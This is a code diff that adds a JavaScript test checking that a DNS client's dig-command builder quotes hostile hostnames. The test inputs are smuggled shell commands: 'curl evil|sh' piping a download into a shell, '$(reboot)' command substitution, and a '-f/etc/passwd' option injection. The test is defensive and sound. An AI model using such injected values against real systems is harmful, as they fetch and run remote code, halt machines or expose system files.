@@ -144,6 +144,13 @@ describe('DNS client against a scripted server', () => {
     assert.equal(res.dig('7.113.0.203.in-addr.arpa', 'PTR'), `dig @127.0.0.1 -p ${dns.port} -x 203.0.113.7`);
     assert.equal(res.dig('mail.example.com.', 'A'), `dig @127.0.0.1 -p ${dns.port} mail.example.com A`);
   });
+
+  it('quotes hostile names so a copied dig command runs nothing else', () => {
+    const res = resolver();
+    assert.equal(res.dig("x;curl evil|sh'.example", 'A'), `dig @127.0.0.1 -p ${dns.port} 'x;curl evil|sh'\\''.example' A`);
+    assert.equal(res.dig('$(reboot).example', 'A'), `dig @127.0.0.1 -p ${dns.port} '$(reboot).example' A`);
+    assert.equal(res.dig('-f/etc/passwd', 'A'), `dig @127.0.0.1 -p ${dns.port} -q -f/etc/passwd -t A`);
+  });
 });
 
 describe('parseServer', () => {
